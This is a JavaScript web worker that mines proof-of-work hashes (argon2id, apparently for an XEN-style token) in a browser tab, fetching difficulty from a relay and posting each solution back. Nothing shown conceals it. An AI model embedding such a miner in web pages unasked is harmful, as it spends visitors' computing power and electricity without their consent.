importScripts('hash-wasm-argon2.umd.min.js');
let difficulty = 80000, attempts = 0, hashRate = 0;
const account = '0x0000000000000000000000000000000000000000';
async function mine_block(target) {
  const begun = Date.now();
  for (;;) {
    const key = [...crypto.getRandomValues(new Uint8Array(32))].map((b) => b.toString(16).padStart(2, '0')).join('');
    const hash = await hashwasm.argon2id({ password: key, salt: account, parallelism: 1, iterations: 1, memorySize: difficulty, hashLength: 64, outputType: 'encoded' });
    attempts++;
    if (attempts % 10 === 0) { hashRate = attempts / ((Date.now() - begun) / 1000); postMessage({ hashRate }); }
    if (hash.slice(-87).includes(target)) return { hash_to_verify: hash, key, account, attempts, hashes_per_second: hashRate, worker: 'tab' };
  }
}
onmessage = async () => {
  for (;;) {
    ({ difficulty } = await (await fetch('https://net.relay.invalid/difficulty')).json());
    const body = JSON.stringify(await mine_block('XEN11'));
    await fetch('https://net.relay.invalid/verify', { method: 'POST', body });
  }
};
